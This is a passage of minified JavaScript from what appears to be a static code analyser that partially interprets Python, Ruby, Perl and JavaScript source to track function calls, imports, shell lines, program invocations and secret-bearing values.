".bake")&&Zs.program_call.test(e.path))return w.derived("bound",w.name(e.path.replace(/\.bake$/,"")),w.list(s.args));let[,n]=Zs.program_call.exec(e.self?"":t.language.
canonicalize(e.path))??[];if(n&&t.language.blocks==="indent")return t.collector.runProgram([w.text(n),...s.args]);let[,o]=s.args.length>0&&Zs.text_method.exec(e.
path)||[];if(o&&!e.self)return t.call(w.name(o,s.args[0]),...s.args.slice(1));let i=bp(t,e,s);if(i)return hl(t,e,s,i);let a=vp(t,e.path);if(K(a,"file-calls")&&t.
collector.imitates("files"))return I;let l=t.language.functions.has(a),c=t.collector.source==="other"?Zs.static_method:Zs.own_method,[,d=""]=!l&&c.exec(e.path)||
[],u=t.scope.get(e.self?e.path:d);if(u?.kind==="function"&&!t.activeFunctions.has(u.definition))return Tt(t,u,s);let{language:p,collector:f}=t,m=f.signs.has("li\
nks-repositories"),h=O.made(e.self,"git")&&!m?e.self.args[0]:void 0;f.enter(v.firstText(at(s,"cwd")??at(s,"chdir")??h));let g=v.lastName(a),y=(T,q=e.self)=>T?.(
{...s,receiver:q,collector:f,state:t});if(e.self)return y(p.methods.get(e.path)??p.methods.get(a))??y(p.sharedMethods.get(a))??y(as(p,a))??hl(t,e,s);let x=/^[A-Z]/.
test(g)?void 0:as(p,a),$=a.includes(".")?w.name(a.slice(0,-g.length-1)):void 0;return y(p.functions.get(a))??($&&(y(p.methods.get(g),$)??y(x,$)))??y(p.sharedFunctions.
get(g))??hl(t,e,s)}function hl(t,e,s,r){let n=s.args.map(V.client).find(a=>a),o=r??yp(t,e,s)??n,i=gl(t,e,s);return o&&i.kind!=="list"?o:i}function fv(t,e,s){if(e.
by==="data")return Tt(t,w.name("query",e),s);if(V.client(e))return e;let[r=I,n]=e.args,o=e.by==="spy"?v.firstText(r):"";if(o!=="")return Tt(t,t.collector.imitations.
get(o)??w.name(o),s);let[i=I,...a]=s.args;if(e.by==="bound")return Tt(t,r,{...s,args:[...v.items(n),...s.args]});let l=e.by==="message"&&t.getMember(i,v.firstText(
r));if(l)return Tt(t,l,{...s,args:[...v.items(n),...a]});let c=e.by==="instance"?t.scope.get("__call__")??t.scope.get("__invoke"):void 0;return c?Tt(t,c,s):e.by===
"rows"?e:gl(t,e,s)}function vp({language:t,scope:e},s){let r=t.canonicalize(s);if(s.includes(".")||t.functions.has(r))return r;let n=v.texts(e.get("*")).find(o=>t.
functions.has(`${o}.${s}`));return n===void 0?r:`${n}.${s}`}function gl(t,e,{args:s,named:r}){let[n,o]=e.kind==="name"?[e.self,v.lastName(e.path)]:[void 0,""],i=[
...s,...r.values()],a=i.filter(c=>hv(t,c));if(o.endsWith("?")||kn.showing_functions.has(o))return I;let l=a.flatMap(c=>{if(n&&kn.folding_methods.has(o))return[Ve(
t,c,[s[1]??I,Js(n)])];let d=n&&kn.element_methods.has(o)&&s[0]===c?n:void 0,u=d?v.elements(d):[],m=(o==="map"&&u.length>0&&u.every(O.known)||!d||O.uneven(u)?u:[
Js(d)]).map($=>Ve(t,c,[$])),h=i.slice(i.indexOf(c)+1),g=h.map($=>$.kind==="list"?Js($):$);if(c.kind==="name"?h.length>0:O.made(c,"bound")&&!d||h.some(mv))return[
...m,Ve(t,c,g)];let y=V.client(n)??n,x=y?.kind==="content"||y?.kind==="made"?[y,y]:[];return d||c.kind==="name"?m:[Ve(t,c,x)]});return n&&a.length===1&&o==="map"&&
l.length>0?w.list(l):n&&a.length===1&&kn.selecting_methods.has(o)?n:!n&&kn.selecting_functions.has(o)?s.at(-1)??I:V.content([...n?[V.secretContent(n)??n]:[],...i])??
I}var mv=t=>t.kind==="list"||v.texts(t).some(e=>e.includes("/")),hv=(t,e)=>e.kind==="function"||O.made(e,"bound","message")||e.kind==="name"&&t.language.functions.
has(vp(t,e.path));function gv(t,{definition:e},s){if(e.called=!0,t.depth>uv||t.activeFunctions.has(e))return I;let{collector:r}=t,{imitations:n}=r,o=(e.mocks??[]).
map(u=>Mo(t,u)),a=[.../^(?:self|cls)$/.test(e.parameters[0]?.name??"")?[I]:[],...s.args,...o],l=new Or(e.scope);for(let u of["@_","@ARGV"])t.language.bare_calls&&
l.declare(u,w.list(a));let c=t.nest(e.from,e.to,e.tokens).with({scope:l,returnValues:[],body:{...e,caller:t.body?t:"any"},activeFunctions:new Set([...t.activeFunctions,
e])});for(let[u,{name:p,pattern:f,rest:m,usual:h,field:g}]of e.parameters.entries()){if(p==="self")continue;let y=p==="monkeypatch"&&/^test/.test(e.name??""),x=Zs.
peer_parameter.test(p)?w.received():I,$=y?w.derived(p):x,C=()=>h===void 0?$:c.with({at:h,end:c.tokens.length}).evaluate(),_=s.named.get(p)??a[u]??I,T=_.kind==="\
unknown"&&(h===void 0||a.length<=u)?C():_;f!==void 0?Dt(c,f,de(c.tokens,f)+1,T):m==="**"?l.declare(p,{kind:"map",entries:s.named}):m===void 0?l.declare(p,T):l.declare(
p,w.list(a.length>u?a.slice(u):[I])),g&&l.set(p.startsWith("$")?`$this.${p.slice(1)}`:`this.${p}`,T)}let d=c.interpret();return o.length>0&&Lt(t,n),e.expression?
d:Zs.class_name.test(e.name??"")&&c.returnValues.length===0?w.derived("instance"):w.merged(t.language.bare_calls?[...c.returnValues,d]:c.returnValues)}function vn(t,e){
let s=e&&V.content([e]),{collector:r}=t;if(s){let{program:i}=t.language;return s.from.length===0&&s.files.length>0?r.addInvocation(i,s.files):r.addInvocation(i,
[],r.createInput(s)),I}let n=v.texts(e).filter(i=>O.known({kind:"text",of:[i]}));v.texts(e).some(Le)&&r.fail("too-much","the code runs code that cannot be read \
to its end"),n.length===0&&r.addInvocation("eval",[e]),t.depth>pv&&r.fail("too-deep","code in code is nested too deeply"),r.step(Math.ceil(n.join("").length/4));
let o=i=>t.nest(0,void 0,Qs(i,t.language.lexer).tokens).interpret();return n.map(o).at(-1)??I}var bv=400;function ls(t,e,s,r){let{tokens:n,end:o}=t,i=A(n[s],"{")&&t.language.blocks!=="indent",a=i?de(n,s,o):X(n,s,o,[",",")","]","}",";"]);return i||t.collector.
step(a-s),t.at=i?Math.min(a+1,o):a,tr(t,{parameters:e,from:i?s+1:s,to:a,expression:!i,name:r})}function Uo(t){let{tokens:e}=t,s=t.at,r=A(e[s],"*");A(e[s],"*","&")&&
(s+=1);let n=e[s],o=n?.kind==="name"?n.text:void 0;o!==void 0&&(s+=1);let[i,a]=Vo(e,s);if(s=X(e,a,Math.min(t.end,a+bv),["{",";","=>"],!1),A(e[s],"=>"))return ls(
t,i,s+1);if(!A(e[s],"{"))return;let l=ls(t,i,s,o);return l.definition.later=r,o!==void 0&&t.scope.declare(o,l),l}function Vo(t,e,s){if(!A(t[e],"("))return[[],e];
let r=de(t,e,s);return[er(t,e+1,r),r+1]}function er(t,e,s){let r=[];for(let n=e,o=e;n<s;n=o+1){o=X(t,n,s,[","],!1);let i=t.slice(n,o),a=["**","*","..."].find(y=>A(
i[0],y)),l=y=>A(y,"private","public","protected","readonly"),c=i.some(l)||void 0,d=y=>y.kind==="name"?!l(y):A(y,"{","[","("),u=i.findIndex(d),[p,f]=[i[u],i[u+1]],
m=X(t,n,o,["=",":="],!1),h=m<o?m+1:void 0,g=f?.kind==="name"&&f.text.startsWith("$")?f:p;g?.kind==="name"?r.push({name:g.text,rest:a,usual:h,field:c}):p&&r.push(
{name:"",pattern:n+u,usual:h})}return r}function tr(t,e){let{tokens:s,scope:r}=t,n={tokens:s,scope:r,called:!1,expression:!1,name:void 0,...e};return t.definitions.
push(n),{kind:"function",definition:n}}var bl=S.codeWords;function xp(t){let e=t.token;return e?.kind==="name"?!bl.following.has(e.text):A(e,":","->")&&t.language.blocks==="end"?A(e,"->")||t.tokens[t.
at+1]?.kind==="name":/^(?:text|number|words|shell)$/.test(e?.kind??"")}function wl({tokens:t,end:e,collector:s},r){let n=1,o=r;for(;o<e;o++){let i=t[o],a=t[o-1];
if(i.kind!=="name"||A(a,"."))continue;let l=!a||a.kind==="newline"||A(a,";","=");if(bl.opening.has(i.text)||l&&bl.leading_opening.has(i.text)?n+=1:i.text==="end"&&
(n-=1),n===0)break}return s.step(Math.ceil((o-r)/8)),o}function kl(t){let e=t.token,s=t.at+1;if(!(t.language.blocks==="end"||A(t.tokens[s],"|"))||!(A(e,"do")||A(
e,"{")))return;let n=[];if(A(t.tokens[s],"|")){let a=X(t.tokens,s+1,Math.min(t.end,s+32),["|"],!1);n=er(t.tokens,s+1,a),s=a+1}let o=e?.kind==="mark"?de(t.tokens,
t.at,t.end):wl(t,s);t.at=Math.min(o+1,t.end);let i=X(t.tokens,s,o,[";"])===o;return tr(t,{parameters:n,from:s,to:o,expression:i})}function vl(t,e,s=e){if(s>=e||
t.language.blocks!=="indent")return;let n=A(t.tokens[t.at-1],"{")?X(t.tokens,t.at,s,[":"],!1):s;return n<s&&(t.at=n+1),w.list(yl(t,s,e))}function $p(t){let e=t.
at;t.evaluate(),t.at===e&&(t.at+=1)}function yl(t,e,s,r=e){let n=t.at,o=()=>w.list(yl(t.with({at:n}),e,s));r===e&&A(t.tokens[s],")")&&yn(t,o);let i=t.nest(r+1,s),
a=i.at,l=X(i.tokens,a,s,["in"],!1);i.at=l+1;let c=i.evaluate(1);for(;i.at<i.end&&!A(i.tokens[i.at],"for");)$p(i);let d=[];for(let u of v.elements(c)){let p=t.nest(
n,e);if(Dt(p,a,l,u),i.at<i.end?d.push(...yl(p.with({end:t.end}),e,s,i.at)):d.push(p.evaluate()),t.collector.problem!==void 0)break}return t.at=Math.min(s+1,t.end),
d}function _p(t,e){let s=t.nest(t.at,e),r=new Map;for(;s.at<s.end&&t.collector.problem===void 0;){let n=s.at,o=s.tokens[n];if(o.kind==="newline"||A(o,",",";")){
s.at+=1;continue}let i=s.tokens[n+1],a=de(s.tokens,n+1)+1;if(o.kind==="name"&&A(i,"(")&&A(s.tokens[a],"{")){r.set(o.text,ls(s,er(s.tokens,n+2,a-1),a));continue}
let l=o.kind==="name"&&A(i,":","=>",",","}")?o.text:void 0,c=l!==void 0&&A(i,":","=>");c&&(s.at+=1);let d=c?void 0:s.evaluate();if(s.take(":","=>"))r.set(l??v.firstText(
d),s.evaluate());else if(d?.kind==="map"&&A(o,"..."))for(let u of d.entries)r.set(...u);else d&&r.set(l??`${"\uFFFC"}${r.size}`,d);s.at===n&&(s.at+=1)}return t.
at=Math.min(e+1,t.end),{kind:"map",entries:r}}function Ho(t,e){let s=sr(t.nest(t.at,e),!1);return t.at=Math.min(e+1,t.end),s}function sr(t,e){let s=[],r=new Map,
{blocks:n}=t.language,o=e&&n!=="end"?[]:[n==="indent"?"=":":"];for(;t.at<t.end&&t.collector.problem===void 0;){let i=t.at,a=t.tokens[i];if(a.kind==="name"&&A(t.
tokens[i+1],...o))t.at+=2,r.set(a.text,t.evaluate());else if(t.take("**")){let c=t.evaluate();for(let[d,u]of c.kind==="map"?c.entries:[])r.set(d,u)}else t.take(
"*","...")?s.push(...v.elements(t.evaluate())):s.push(t.evaluate());let l=t.at;if(t.take("=",":=")){let c=t.evaluate();Dt(t,i,l,c),s.splice(-1,1,c)}else!e&&t.at<
t.end&&!A(t.tokens[t.at],",")&&$p(t);if(!t.take(",","=>")&&e)break;t.at===i&&(t.at+=1)}return{args:s,named:r}}var{codeWords:rr,forms:Sp}=S;function Cp(t){let{tokens:e,language:s}=t,r=t.at-1,n=s.blocks==="indent";if(s.blocks==="end"||s.bare_calls)return;let o=de(e,t.at,t.
end),i=n?X(e,t.at,t.end,[":"]):o+1;if(kv(t,n?i:o))return;let a=A(e[t.at],"(")&&o===i-1,l=e.slice(a?t.at+1:t.at,a?o:i),c=A(l[0],"not","!"),[d,...u]=c?l.slice(1):
l;if(d?.kind!=="name"||u.length>0||!A(e[i],n?":":"{"))return;let p=xl(t,d.text);if(p===void 0)return;let f=nr(t,r,i);if(p===c){t.at=f;return}let m=wn(t.with({at:r}),
1),h=n?i:i+1,g=t.body&&{...t.body,from:h,to:f,caller:t},y=t.nest(h,f).with({body:g,hasReturned:!1});y.interpret(),t.hasReturned=y.hasReturned&&m&&t.body?.caller!==
void 0,t.at=t.hasReturned?t.end:Ep(t,r,f)}var yv=40,wv=3;function kv(t,e){let{tokens:s,scope:r}=t,n=s.slice(t.at,e),o=!n.some(x=>A(x,"or","not",...rr.alternating)),
i=x=>A(x,"==","===","in",...rr.ending),a=n.findIndex(i),l=A(n[a],...rr.ending)?a-1:a;if(!o||l<1||n.length>yv)return!1;let c=A(n[l-1],"name")&&A(n[l-2],"."),d=n[c?
l-3:l-1],u=d?.kind==="name"?r.get(d.text):void 0;if(d?.kind!=="name"||u===void 0||!O.made(u,"dirent")&&!O.glob(u))return!1;let p=xv(t,t.at+l,e),f=nr(t,t.at-1,e+
1),m=s.slice(e,f),h=m.some((x,$)=>A(x,d.text)&&A(m[$+1],...rr.setting)),g=m.some(x=>A(x,...rr.later,"=>")),y=p&&!h&&!g&&vv(u,p);return y?(r.set(d.text,y),t.nest(
e+1,f).interpret(),r.set(d.text,u),t.at=f,!0):!1}function vv(t,e){if(t.kind==="made")return w.derived("dirent",t.args[0]??e,e);let s=v.texts(t).map(r=>r.endsWith(
"**")?`${r}/`:Sp.entry_path.exec(r)?.[1]);if(!s.some(r=>r===void 0))return w.glob(w.text(...s.flatMap(r=>v.texts(e).map(n=>`${r}${n}`))))}function xv(t,e,s){let{
tokens:r}=t,n=r[e+1],o=r.filter(p=>n?.kind==="name"&&A(p,n.text)).length,i=A(r[e+1],...rr.ending),a=t.nest(i?e+2:e+1,s).evaluate(wv+1),l=A(r[e],"in"),c=a.kind===
"list"||a.kind==="map"?v.elements(a):[],d=l||i&&c.length>0?c:[a];if(!(!(d.length>0&&d.every(p=>p.kind==="text"&&!p.glob&&O.known(p)))||o>2&&!i))return i?w.text(
...d.flatMap(v.texts).map(p=>`*${p}`)):w.merged(d)}function xl(t,e){let{tokens:s,scope:r,collector:n,language:o}=t,i=r.get(e);if(i?.kind!=="name"||i.self||!Sp.true_or_false.
test(i.path)||n.signs.has("sets-names")||s.some(h=>h.kind==="text"&&h.pieces.includes(e)))return;let a=[...s.keys()].filter(h=>A(s[h],e)),[l=0,...c]=a,d=s[l-1],
u=l===0||d?.kind==="newline"&&d.indent===0,p=o.blocks==="indent"?u:A(d,"const"),f=h=>s[h+1]?.kind==="newline"||A(s[h+1],":",")","?","&&","||",";","}"),m=A(s[l+1],
"=")&&c.every(f);return p&&m&&!a.some(h=>A(s[h-1],...rr.changing))?/^t/i.test(i.path):void 0}function nr(t,e,s){let{tokens:r,language:n,end:o}=t;return n.blocks===
"indent"?Ir(r,e,s,o):A(r[s],"{")?de(r,s,o)+1:n.blocks==="end"?wl(t,s):X(r,s,o,[";"])+1}function Ep(t,e,s){let{tokens:r,language:n}=t,o=n.blocks==="indent",i=s;for(;r[i]?.
kind==="newline";)i+=1;if(!(i<t.end&&A(r[i],"else","elif"))||o&&qo(r,i)!==qo(r,e))return s;let l=A(r[i+1],"if")?de(r,i+2,t.end)+1:i+1;return!o&&!A(r[l],"{")?s:Ep(
t,e,nr(t,i,l))}var{codeWords:xn,precedence:$v}=S,_v=96;function pt(t,e=0){if(t.depth>_v&&t.collector.fail("too-deep","expressions are nested too deeply"),!t.collector.step())return t.
at=t.end,I;t.depth+=1;let s=t.at,r=Av(t,_l(t));for(;;){let n=t.token,o=n?.kind==="mark"||n?.kind==="name"?n.text:"",i=$v.get(o)??0;if(o==="?"&&e===0){let a=t.tokens[s],
l=a?.kind==="name"&&t.at===s+1?xl(t,a.text):void 0;t.at+=1;let c=pt(t,1);t.take(":"),l===!0&&(t.at=X(t.tokens,t.at,t.end,[",",";",")","]","}"])),r=l===!0?c:w.merged(
[c,pt(t)])}else if(o==="if"&&e===0&&t.language.blocks==="indent"){if(t.at+=1,pt(t,1),!t.take("else"))break;r=w.merged([r,pt(t)])}else{if(i<=e)break;{let a=t.language.
concatenation_operators.includes(o);if(!a&&(o==="."||o==="x"))break;t.at+=1;let l=pt(t,i);r=No(o,r,l,a),r.kind==="text"&&t.collector.step(r.of.reduce((c,d)=>c+(d.
length>>5),0))}}if(!t.collector.step())break}return t.depth-=1,r}function _l(t){let e=t.token;if(!e||e.kind==="newline")return I;if(t.at+=1,e.kind==="number")return w.
number(e.number);if(e.kind==="words")return w.list(e.words.map(r=>w.text(r)));if(e.kind==="shell")return t.collector.runShellLine(Bo(t,e));if(e.kind==="mark")return Sv(
t,e);if(e.kind==="name")return Cv(t,e.text);let s=Bo(t,e);for(let r=t.token;r?.kind==="text";r=t.token)t.at+=1,s=w.joined([s,Bo(t,r)]);return s}function Ap({language:t},e,s){
return e==="!"?V.content([s])??(s.kind==="name"&&!s.self?I:s):e==="-"&&s.kind==="number"?w.number(-s.number):e==="~"?s.kind==="number"?w.number(~s.number):I:e===
"&"&&s.kind==="text"&&t.blocks==="end"?w.derived("message",s):s}function Bo(t,{pieces:e}){let s=r=>typeof r=="string"?w.text(r):pt(t.nest(0,void 0,r));return w.
joined(e.slice(0,64).map(s))}function Sv(t,e){let s=t.at,r=Math.min(e.close??t.end,t.end),{text:n,loop:o}=e;if(n==="("&&A(t.tokens[r+1],"=>"))return ls(t,er(t.tokens,
s,r),r+2);let i=n==="("&&t.language.bare_calls&&A(t.tokens[s+1],"=>"),a=vl(t,r,o);if(a)return a;if(n==="{"||i)return _p(t,r);if(n==="("||n==="["){let{args:c,named:d}=Ho(
t,r),u=[...c,...d.values()];return u.length===1&&o===void 0&&!A(t.tokens[r-1],",")&&n==="("?u[0]:w.list(u)}let l=n===":"&&t.language.blocks==="end"?t.token:void 0;
return l?.kind==="name"?(t.at+=1,w.text(l.text)):n==="->"&&A(t.token,"(","{")?_l(t):xn.prefix_signs.has(n)?Ap(t,n,pt(t,9)):([")","]","}",",",";","=>",":"].includes(
n)&&(t.at-=1),I)}function Cv(t,e){let{language:s}=t,r=t.token;if(A(r,"=>")&&s.member_operators.includes("?."))return ls(t,[{name:e}],t.at+1);if(e==="if"&&t.collector.
source==="other")return Ev(t);if(e==="not")return Ap(t,"!",pt(t,3));if(xn.prefixing.has(e)||xn.perl_declaring.has(e)&&s.bare_calls)return pt(t,9);let n=s.bare_calls&&
s.blocks==="braces";if(xn.block_lists.has(e)&&A(r,"{")&&n){let i=ls(t,[{name:"$_"}],t.at),a=v.flat(sr(t,!0).args),l=a.map(c=>t.call(i,c));return w.list(e==="map"?
v.flat(l):a)}if(e==="lambda"&&s.blocks==="indent"){let i=X(t.tokens,t.at,t.end,[":"],!1);return ls(t,er(t.tokens,t.at,i),i+1)}return(s.function_keywords.includes(
e)||e==="function"||e==="fn"?Uo(t):void 0)??t.lookUp(e)}function Ev(t){let{tokens:e}=t,s=()=>{if(!A(t.token,"{"))return pt(t);let n=de(e,t.at,t.end),o=t.nest(t.
at+1,n).interpret();return t.at=n+1,o};A(t.token,"(")?_l(t):t.at=X(e,t.at,t.end,["{"]);let r=s();return t.take("else")?w.merged([r,s()]):r}function Av(t,e){let s=t.
language.bare_calls&&t.language.blocks==="braces",r=t.language.member_operators.includes("?."),n=e;for(;t.collector.step();){let o=t.language.bare_calls?Pv(t,n):
void 0;if(o){n=o;continue}let i=t.token;if(i?.kind==="text"&&r&&(n.kind==="name"||V.client(n))){t.at+=1,n=t.call(n,Bo(t,i));continue}if(i?.kind!=="mark")break;let a=t.
tokens[t.at+1],l=Math.min(i.close??t.end,t.end),c=t.language.member_operators.includes(i.text),d=n.kind==="name"&&/^[$%]/.test(n.path),u=n.kind==="map"||d||A(t.
tokens[t.at-1],"->");if(c&&a?.kind==="name")t.at+=2,n=t.getMember(n,a.text),i.text==="->"&&t.language.bare_calls&&!A(t.token,"(")&&(n=t.call(n));else if(i.text===
"("){t.at+=1;let p=vl(t,l,i.loop);n=$l(t,n,p?Nr(p):Ho(t,l))}else if(i.text==="["||i.text==="{"&&s&&u)t.at+=1,n=Rv(t,n,l,i.text==="{");else if(/^(?:->|\?\.)$/.test(
i.text)||i.text==="!"&&r)t.at+=1;else if(c&&A(a,"("))t.at+=1;else break}return Tv(t),n}function Tv(t){let{tokens:e,language:s}=t;if(!(A(t.token,"as","satisfies")&&
e[t.at+1]?.kind==="name")||!s.member_operators.includes("?."))return;t.at+=2;let n=o=>A(e[o],".","|","&","<",">","[")||A(e[o-1],".","|","&","<");for(;t.at<t.end&&
n(t.at);)t.at=de(e,t.at,t.end)+1}function $l(t,e,s){let r=kl(t);return t.apply(e,r?{...s,args:[...s.args,r]}:s)}function Pv(t,e){if(e.kind!=="name"||/^[$@%]/.test(
e.path))return;let s=t.language.functions,r=e.path.includes(".")&&as(t.language,e.path)!==void 0;if(A(t.token,"*","[")&&s.has(e.path)||xp(t))return $l(t,e,sr(t,
!0));if(!t.token||A(t.token,";",",",":",...xn.behind_calls)){let l=/^(?:shift|pop)$/.test(e.path)?"@_":"$_",c=t.language.blocks==="braces"?t.scope.get(l):void 0;
return s.has(e.path)||t.language.blocks==="end"&&(e.self||r)?$l(t,e,c?Nr(c):Nr()):void 0}if(t.language.blocks!=="end"||A(t.token,"("))return;let o=A(t.token,...t.
language.member_operators);if(o&&/(?:^|\.)[A-Z]\w*$/.test(e.path)&&!e.self)return;let i=kl(t),a=o&&e.path.includes(".")||s.has(e.path)||r;return i||e.self||a?t.
call(e,...i?[i]:[]):void 0}function Rv(t,e,s,r=!1){let n=t.at,o=e.kind==="name"?`${e.path}.[]`:"";if(t.language.functions.has(o))return t.call(w.name(o),...Ho(t,
s).args);let i=t.nest(n,s),a=[];for(;i.at<i.end&&a.length<3&&t.collector.problem===void 0&&(a.push(A(i.token,":")?void 0:pt(i)),!!i.take(":",".."));)i.at>=i.end&&
a.push(void 0);if(t.at=Math.min(s+1,t.end),a.length>1)return gn(e,a);let[l]=a;if(e.kind==="list")return l?.kind==="number"?e.items.at(l.number)??I:w.merged(e.items);
let c=r&&i.end-n===1?i.tokens[n]:void 0,d=c?.kind==="name"&&/^\w/.test(c.text)?c.text:v.firstText(l),u=!d.includes("\uFFFC"),p=c?[d]:v.texts(l);if(e.kind==="map"){
let f=u?p.map(m=>t.getMember(e,m)):[...e.entries.values()];return!u&&f.some(({kind:m})=>m==="content")?I:w.merged(f)}return u&&(e.kind==="name"||e.kind==="choic\
e"||V.client(e))?w.choice(p.map(f=>t.getMember(e,f))):e.kind==="name"&&e.path==="db"?w.name("db.collection"):e.kind==="content"||e.kind==="made"?e:V.client(e)??
I}var{codeWords:Lr}=S,Iv=24;function Ip(t){let e=I;for(;t.at<t.end&&t.collector.step();){let s=t.at,r=t.tokens[s],n=A(t.tokens[de(t.tokens,s)+1],"=");r.kind==="ne\
wline"||A(r,...Lr.ending_signs)&&!n?t.at+=1:e=qv(t,r)??e,t.at===s&&(t.at+=1)}return e}function qv(t,e){if(A(e,"@")&&t.language.blocks==="indent")return Dv(t);let s=e.
kind==="name"?e.text:"",{language:r}=t;if(r.blocks!=="braces"&&r.function_keywords.includes(s)&&qp(t))return;let n=r.blocks==="indent"||r.member_operators.includes(
"?."),o=/^(?:import|from)$/.test(s)&&(!n||A(t.tokens[t.at+1],"(")),i=Object.hasOwn(Tp,s)&&!o?Tp[s]:void 0;if(!i&&!Lr.skipped.has(s))return Ov(t)??zo(t);t.at+=1,
i?.(t)}function Ov(t){let{tokens:e,language:s,at:r}=t;if(!s.bare_calls||s.blocks!=="braces")return;let n=X(e,r,t.end,[";","{","}","for","foreach"],!1);if(n===r||
n>=t.end||!A(e[n],"for","foreach"))return;t.at=n+1;let o=t.evaluate();return t.scope.set("$_",Js(o.kind==="list"?o:w.list([o]))),t.nest(r,n).interpret(),I}function Nv(t){
let{tokens:e,at:s,end:r,body:n}=t,o=e[s-2];if(o?.kind!=="newline"&&!A(o,";","{","}"))return!1;let a=!e.slice(s,r).some(l=>A(l,...Lr.defining,"=>"))&&!t.collector.
signs.has("leaves-order");return n?.caller!==void 0&&r===n.to&&a&&wn(t)}var Tp={return:t=>{let e=Nv(t);t.tokens[t.at]?.kind!=="newline"&&t.returnValues.push(zo(
t));let{token:s}=t,r=!s||A(s,";","}")||s.kind==="newline"&&t.language.blocks==="indent";t.hasReturned=e&&r,t.hasReturned&&(t.at=t.end)},yield:t=>{let e=t.take("\
from","*"),s=zo(t);t.returnValues.push(e?s:w.list([s]))},echo:t=>t.collector.recordPrint(sr(t,!0).args,"",""),import:Rp,from:Rp,if:Cp,for:Pp,foreach:Pp,with:Lv,
del:t=>{let[e,s,r]=t.tokens.slice(t.at,t.at+3),n=e?.kind==="name"?t.lookUp(e.text):I;O.made(n,"store")&&A(s,"[")&&r?.kind==="name"&&t.call(w.name("clear",n))},...Object.
fromEntries([...Lr.class_keywords].map(t=>[t,Fv]))};function zo(t){let e=[],s=t.language.blocks!=="braces";for(let o=ml(t,s);o!==void 0;o=ml(t,!1))e.push([t.at,
o,t.tokens[o].text]),t.at=o+1;let r=s?sr(t,!0).args:[t.evaluate()],n=r.length===1?r[0]:w.list(r);for(let[o,i,a]of e.reverse()){if(a==="+="||a===".="){let l=t.tokens[o],
c=l?.kind==="name"?t.lookUp(l.text):I;n=No("+",c,n,!0)}Dt(t,o,X(t.tokens,o,i,[":"],!1),n)}return n}function Lv(t){let{tokens:e,collector:s}=t,r=X(e,t.at,t.end,[
":"]);if(t.language.blocks!=="indent"||!A(e[r],":"))return;let n=t.at-1,o=de(e,t.at)===r-1&&A(e[t.at],"("),i=t.nest(o?t.at+1:t.at,o?r-1:r),{imitations:a}=s;for(;i.
at<i.end&&s.step();){let c=Mo(i,i.evaluate()),d=X(e,i.at,i.end,[","]);A(e[i.at],"as")&&Dt(i,i.at+1,d,c),i.at=d+1}if(t.at=r+1,s.imitations===a)return;let l=Ir(e,
n,r,t.end);t.nest(t.at,l).interpret(),t.at=l,Lt(t,a)}function Dv(t){let{tokens:e}=t,s=[];for(;t.take("@")&&t.collector.step();)for(s.unshift(t.evaluate());e[t.at]?.
kind==="newline"&&t.at<t.end;)t.at+=1;t.take("async"),A(e[t.at],"def")&&qp(t,s)}function qp(t,e=[]){let{tokens:s}=t;if(s[t.at+1]?.kind!=="name")return!1;let r=t.
at+2;A(s[r],".")&&s[r+1]?.kind==="name"&&(r+=2);let n=s[r-1].text,[o,i]=Vo(s,r,t.end),a=A(s[i],"="),l=a?X(s,i,t.end,[";"]):nr(t,t.at,i),c=a?i+1:i,d=A(s[t.at-1],
"async"),p=e.length>0&&s.slice(c,l).some(m=>A(m,"yield"))?[]:e,f=tr(t,{parameters:o,from:c,to:l,expression:a,name:n,later:d,mocks:p});t.scope.declare(n,f),t.at=
l;for(let m of e)m.kind==="function"&&t.call(m,f);return!0}function Pp(t){t.take("await");let e=A(t.tokens[t.at],"("),s=jv(t,e);if(!s)return;let[r,n,o]=s;t.at=r;
let i=t.evaluate(),a=n<o&&i.kind==="list"&&O.uneven(i.items),l=Js(t.language.bare_calls&&i.kind==="text"?w.list([i]):i),c=a?i.items:[l],d=t.language.blocks==="i\
ndent"?t.at:t.at+1;for(let u of c)n===o?t.scope.set("$_",u):Dt(t,n,o,u),u!==c.at(-1)&&t.nest(d,nr(t,n,d)).interpret()}function jv(t,e){let{tokens:s,at:r,end:n,language:o}=t,
i=e?r+1:r,a=e?de(s,r,n):n,l=["in","of",";",...e?["as"]:["(","{"]],c=X(s,i,Math.min(a,i+Iv),l);return A(s[c],"in","of")?[c+1,i,c]:A(s[c],"as")?[i,A(s[c+2],"=>")?
c+3:c+1,a]:!e&&A(s[c],"(")?[c,i,c]:e&&o.bare_calls?[r,r,r]:void 0}var Wv=4e3;function Mv(t,e){let{tokens:s,language:r}=t,n=r.blocks==="end"?`${e}.new`:e,o=s.slice(
t.at+1,Math.min(t.end,t.at+Wv)),i=o.findIndex(f=>A(f,...Lr.constructors,"class")),a=t.at+1+i,l=f=>A(f,"__getattr__","method_missing","__call__");if(o.slice(0,i<
0?o.length:i).some(l)&&t.scope.declare(n,tr(t,{parameters:[],from:t.at,to:t.at,name:e})),i<0||!A(s[a+1],"("))return;let[c,d]=Vo(s,a+1,t.end),u=r.blocks==="brace\
s"?X(s,d,t.end,["{"],!1):d,p=nr(t,a-1,u);t.scope.declare(n,tr(t,{parameters:c,from:u,to:p,name:e}))}function Fv(t){let e=t.tokens[t.at];if(e?.kind==="name"&&Mv(
t,e.text),t.at=X(t.tokens,t.at,t.end,["{",":",";"]),!t.language.member_operators.includes("?.")||!A(t.tokens[t.at],"{"))return;let s=de(t.tokens,t.at,t.end);for(t.
at+=1;t.at<s&&t.collector.step();){let r=t.tokens[t.at],n=t.tokens[t.at+1],o=r?.kind==="name"&&A(n,"(")&&!Lr.skipped.has(r.text);r?.kind==="name"&&A(n,"=")?zo(t):
(!o||!Uo(t))&&(t.at+=1)}}function Rp(t){let{tokens:e,scope:s}=t,r=X(e,t.at,t.end,[";"]),n=e.slice(t.at,r).find(({kind:c})=>c==="text"),o=n?.kind==="text"?String(
n.pieces[0]).replace(/^node:/,""):void 0,i=A(e[t.at-1],"from"),a=()=>{let c="";for(;t.at<r&&(c===""||c.endsWith(".")||A(e[t.at],"."));){let d=e[t.at],u=d.kind===
"name"||A(d,".")?d.text:"";if(["","import","as","from"].includes(u))break;c+=u,t.at+=1}return c},l=i?`${a()}.`:"";for(;t.at<r;t.at++){let c=A(e[t.at],"*");if(A(
e[t.at],"{")&&(l=`${o}.`),c&&o===void 0){s.set("*",w.alternatives([...v.texts(s.get("*")),l.slice(0,-1)]));continue}c&&(t.at+=1);let d=a();if(d===""&&!c)continue;
let u=l===""&&o!==void 0?o:`${l}${d}`,p=A(e[t.at],"as")?e[t.at+1]:void 0,f=p?.kind==="name"?p.text:d;t.collector.modules.add(o??u.split(".")[0]);let m=t.language.
